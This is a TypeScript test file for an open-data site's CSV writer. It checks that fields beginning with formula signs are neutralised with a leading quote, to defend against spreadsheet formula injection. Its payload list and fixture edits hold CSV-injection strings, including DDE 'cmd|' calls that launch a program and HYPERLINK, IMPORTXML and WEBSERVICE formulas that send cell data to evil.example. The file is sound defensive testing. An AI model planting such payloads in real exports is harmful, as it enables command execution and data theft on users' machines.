/**
 * Spreadsheet formulas in the open data (issue 13, class 4). A text field that starts with a formula
 * sign is shown as text when the CSV is opened, as OWASP's CSV-injection guidance says; numbers and
 * ordinary text are written as they are. Checked on the CSV writer and on the files the site builds
 * from content holding such text.
 */
import { describe, expect, it } from 'vitest';
import { indicatorRows, INDICATORS } from '../../src/lib/open-data/datasets.ts';
import { actionRows, actionsDataset } from '../../src/lib/open-data/action-dataset.ts';
import { buildSiteModel } from '../../src/model/build-site-model.ts';
import { neutraliseFormula, spreadsheetText, toCsv } from '../../src/lib/open-data/csv.ts';
import { loadContent } from '../../src/loader/load-content.ts';
import { copyCouncil } from '../support/fixture-council.ts';
import { writeFileSync, readFileSync } from 'node:fs';
import path from 'node:path';

const FORMULAS = [
  '=1+1',
  '=HYPERLINK("https://evil.example/?"&A1,"Click")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-1+1',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '   +1',
  '\u00a0=1+1',
  '\u3000=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  '=DDE("cmd";"/C calc";"A0")',
  '=IMPORTXML(CONCAT("https://evil.example/?",A1),"//a")',
  '=WEBSERVICE("https://evil.example/")',
  '\t',
  '-',
];

const ORDINARY = ['Plan - phase 2', 'e-mail the team', '3.4', '1-2 weeks', 'A+ rating', 'Use @ signs in addresses', ''];

/** The fields of a CSV line as a spreadsheet reads them (the site quotes every field). */
function fields(csv: string): string[] {
  return [...csv.replace(/^\uFEFF/, '').matchAll(/"((?:[^"]|"")*)"/g)].map((m) => m[1]!.replaceAll('""', '"'));
}

const runsAsFormula = (field: string): boolean => /^[\s\u0085\u00a0\u2028\u2029\u3000]*[=+\-@\t\r＝＋－＠]/.test(field);

describe('CSV fields that would run as formulas', () => {
  it.each(FORMULAS)('%j is written with a quote in front, and otherwise unchanged', (text) => {
    const [, field] = fields(toCsv(['text'], [{ text }]));
    expect(field).toBe(`'${text}`);
    expect(field!.startsWith("'")).toBe(true);
  });

  it.each(ORDINARY)('%j is written as it is', (text) => {
    expect(fields(toCsv(['text'], [{ text }]))[1]).toBe(text);
  });

  it('leaves numbers and true/false alone, negative numbers included', () => {
    expect(fields(toCsv(['a', 'b', 'c'], [{ a: -4, b: 12.5, c: true }])).slice(3)).toEqual(['-4', '12.5', 'true']);
  });

  it('keeps a number-like reference as text only through a formula that cannot do anything else', () => {
    expect(fields(toCsv(['id'], [{ id: spreadsheetText('3.10') }]))[1]).toBe('="3.10"');
    expect(fields(toCsv(['id'], [{ id: spreadsheetText('=1+1') }]))[1]).toBe("'=1+1");
    expect(fields(toCsv(['id'], [{ id: spreadsheetText('3" & cmd') }]))[1]).toBe('3" & cmd');
  });

  it('pins the rule', () => {
    expect([neutraliseFormula('=1+1'), neutraliseFormula(' @x'), neutraliseFormula('ok')]).toMatchInlineSnapshot(`
      [
        "'=1+1",
        "' @x",
        "ok",
      ]
    `);
  });
});

describe('the open data built from hostile content', () => {
  it('has no field that a spreadsheet would run, in the action plan and the indicators', () => {
    const dir = copyCouncil({
      prepare: (content) => {
        const actions = path.join(content, 'actions/stable-homes.yaml');
        writeFileSync(
          actions,
          readFileSync(actions, 'utf8')
            .replace(
              'action: Recruit more foster carers who live in the borough.',
              'action: "=HYPERLINK(\\"https://evil.example\\")"',
            )
            .replace('text: Twelve households started assessment.', 'text: "+cmd|\' /C calc\'!A0"')
            .replace('partners: [Local fostering network]', 'partners: ["@SUM(A1)", "＝1+1"]'),
        );
        const indicators = path.join(content, 'indicators.yaml');
        writeFileSync(
          indicators,
          readFileSync(indicators, 'utf8').replace('source: SSDA903 return', 'source: "-2+3+cmd|\' /C calc\'!A0"'),
        );
      },
    });
    const today = new Date('2026-11-22T00:00:00Z');
    const { content } = loadContent(dir, { today });
    expect(content).toBeDefined();
    const model = buildSiteModel(content!, today);
    const csvs = [
      toCsv(
        actionsDataset(model.actionPlan).columns.map((c) => c.name),
        actionRows(model.actions.all),
      ),
      toCsv(
        INDICATORS.columns.map((c) => c.name),
        indicatorRows(content!),
      ),
    ];
    const all = csvs.flatMap(fields);
    // The only formulas are action numbers kept as text (="3.10"), which can give nothing but that text.
    const textFormula = /^="[\p{L}\p{N} ./-]*"$/u;
    expect(all.filter((field) => runsAsFormula(field) && !textFormula.test(field))).toEqual([]);
    expect(all).toContain('\'=HYPERLINK("https://evil.example")');
    expect(all).toContain("'+cmd|' /C calc'!A0");
    expect(all).toContain("'-2+3+cmd|' /C calc'!A0");
  });
});
